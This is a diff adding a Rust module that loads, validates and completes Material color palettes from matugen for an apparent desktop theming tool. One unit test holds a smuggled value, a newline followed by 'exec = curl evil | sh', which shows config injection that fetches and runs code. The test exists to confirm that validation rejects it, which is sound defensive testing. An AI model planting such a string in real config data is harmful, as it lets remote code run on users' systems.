@@ -0,0 +1,178 @@
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::Path;
+use serde::{Deserialize, Serialize};
+
+use crate::{write_atomic, ChromashError, ColorMode, Result};
+
+/// Role -> `#rrggbb`, e.g. `primary`, `on_surface`.
+pub type ColorRoles = BTreeMap<String, String>;
+
+/// The Material tonal palettes every scheme is built from.
+pub const TONAL_PALETTES: &[&str] = &["primary", "secondary", "tertiary", "neutral", "neutral_variant", "error"];
+
+/// Tones of each tonal palette: matugen's steps plus the ones Material 3 uses for surfaces.
+pub const TONES: &[u8] = &[0, 4, 5, 6, 10, 12, 15, 17, 20, 22, 24, 25, 30, 35, 40, 50, 60, 70, 80, 87, 90, 92, 94, 95, 96, 98, 99, 100];
+
+/// Generated scheme as reported by `matugen --json hex`.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct Palette {
+    pub colors: PaletteColors,
+    /// Mode the palette was applied in; `default` template colors resolve to it.
+    #[serde(default)]
+    pub mode: Option<String>,
+    /// Tonal palettes: name -> tone -> `#rrggbb`.
+    #[serde(default)]
+    pub palettes: BTreeMap<String, BTreeMap<String, String>>,
+    /// Monitor name -> palette generated from that monitor's wallpaper, with
+    /// `[monitor_accents]` on.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub monitors: BTreeMap<String, Palette>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct PaletteColors {
+    #[serde(default)]
+    pub light: ColorRoles,
+    #[serde(default)]
+    pub dark: ColorRoles,
+}
+
+impl Palette {
+    /// Parses matugen's JSON output, returning `None` if it isn't a palette.
+    pub fn from_matugen_output(stdout: &str) -> Option<Self> {
+        let start = stdout.find('{')?;
+        let mut palette: Self = serde_json::from_str(&stdout[start..]).ok()?;
+        palette.complete_tones();
+        (!palette.colors.light.is_empty() || !palette.colors.dark.is_empty()).then_some(palette)
+    }
+
+    pub fn load(path: &Path) -> Result<Option<Self>> {
+        if !path.is_file() {
+            return Ok(None);
+        }
+        let mut palette: Self = serde_json::from_str(&fs::read_to_string(path)?)?;
+        palette.validate()?;
+        palette.complete_tones();
+        Ok(Some(palette))
+    }
+
+    /// Refuses any color that isn't `#rrggbb` or `#rrggbbaa`. Templates paste colors into
+    /// config files verbatim, so a palette from an archive must not smuggle in other text.
+    pub fn validate(&self) -> Result<()> {
+        let roles = [&self.colors.light, &self.colors.dark].into_iter().flatten();
+        let tones = self.palettes.values().flatten();
+        if let Some((name, hex)) = roles.chain(tones).find(|(_, hex)| !is_hex_color(hex)) {
+            return Err(ChromashError::General(format!("Palette has an invalid color for {}: {:?}", name, hex)));
+        }
+        self.monitors.values().try_for_each(Palette::validate)
+    }
+
+    /// Fills in every tone of `TONES` missing from the tonal palettes matugen reported,
+    /// blending the nearest reported tones (tone 0 is black and 100 white in every
+    /// palette), and names them as `TONAL_PALETTES` does.
+    fn complete_tones(&mut self) {
+        let palettes = std::mem::take(&mut self.palettes);
+        for (name, tones) in palettes {
+            let mut known: BTreeMap<u8, [u8; 3]> = tones.iter()
+                .filter_map(|(tone, hex)| Some((tone.parse().ok()?, parse_hex(hex)?)))
+                .collect();
+            if known.is_empty() {
+                self.palettes.insert(name.replace('-', "_"), tones);
+                continue;
+            }
+            known.entry(0).or_insert([0, 0, 0]);
+            known.entry(100).or_insert([255, 255, 255]);
+            let mut completed = tones;
+            for &tone in TONES {
+                if completed.contains_key(&tone.to_string()) {
+                    continue;
+                }
+                let (Some((&below, low)), Some((&above, high))) = (known.range(..=tone).next_back(), known.range(tone..).next()) else { continue };
+                let t = (tone - below) as f64 / (above - below).max(1) as f64;
+                let [r, g, b] = [0, 1, 2].map(|i| (low[i] as f64 + (high[i] as f64 - low[i] as f64) * t).round() as u8);
+                completed.insert(tone.to_string(), format!("#{:02x}{:02x}{:02x}", r, g, b));
+            }
+            self.palettes.insert(name.replace('-', "_"), completed);
+        }
+    }
+
+    /// `#rrggbb` of `tone` in the tonal palette `name`, e.g. `("neutral", 90)`.
+    pub fn tone(&self, name: &str, tone: u8) -> Option<&String> {
+        self.palettes.get(&name.replace('-', "_"))?.get(&tone.to_string())
+    }
+
+    /// The tones of tonal palette `name` from dark to light.
+    pub fn tones(&self, name: &str) -> Vec<(u8, &String)> {
+        let mut tones: Vec<(u8, &String)> = self.palettes.get(name).into_iter()
+            .flatten()
+            .filter_map(|(tone, hex)| Some((tone.parse().ok()?, hex)))
+            .collect();
+        tones.sort_by_key(|(tone, _)| *tone);
+        tones
+    }
+
+    pub fn save(&self, path: &Path) -> Result<()> {
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        write_atomic(path, serde_json::to_string_pretty(self)?)?;
+        Ok(())
+    }
+
+    pub fn mode(&self) -> ColorMode {
+        self.mode.as_deref().and_then(ColorMode::from_str).unwrap_or(ColorMode::Dark)
+    }
+
+    pub fn roles(&self, mode: ColorMode) -> &ColorRoles {
+        match mode {
+            ColorMode::Light => &self.colors.light,
+            ColorMode::Dark => &self.colors.dark,
+        }
+    }
+}
+
+fn parse_hex(hex: &str) -> Option<[u8; 3]> {
+    let hex = hex.trim_start_matches('#');
+    let channel = |i: usize| u8::from_str_radix(hex.get(i..i + 2)?, 16).ok();
+    Some([channel(0)?, channel(2)?, channel(4)?])
+}
+
+/// `#rrggbb` or `#rrggbbaa`.
+fn is_hex_color(hex: &str) -> bool {
+    hex.strip_prefix('#').is_some_and(|digits| matches!(digits.len(), 6 | 8) && digits.bytes().all(|b| b.is_ascii_hexdigit()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn palette(json: &str) -> Result<Option<Palette>> {
+        let path = std::env::temp_dir().join(format!("chromash-palette-{}.json", std::process::id()));
+        fs::write(&path, json).unwrap();
+        let palette = Palette::load(&path);
+        let _ = fs::remove_file(&path);
+        palette
+    }
+
+    #[test]
+    fn load_accepts_hex_and_fills_tones() {
+        let palette = palette(r##"{"colors": {"dark": {"primary": "#D0BCFF", "scrim": "#00000080"}},
+                                  "palettes": {"primary": {"40": "#6750a4"}}}"##).unwrap().unwrap();
+        assert_eq!(palette.roles(ColorMode::Dark)["primary"], "#D0BCFF");
+        assert_eq!(palette.tone("primary", 0).map(String::as_str), Some("#000000"));
+        assert!(palette.tone("primary", 90).is_some());
+    }
+
+    #[test]
+    fn load_refuses_colors_that_are_not_hex() {
+        for json in [
+            r##"{"colors": {"dark": {"primary": "#ffffff\nexec = curl evil | sh"}}}"##,
+            r##"{"colors": {"light": {"primary": "ffffff"}}}"##,
+            r##"{"colors": {}, "palettes": {"primary": {"40": "#6750a"}}}"##,
+            r##"{"colors": {}, "monitors": {"DP-1": {"colors": {"dark": {"primary": "#gggggg"}}}}}"##,
+        ] {
+            assert!(palette(json).is_err(), "{}", json);
+        }
+    }
+}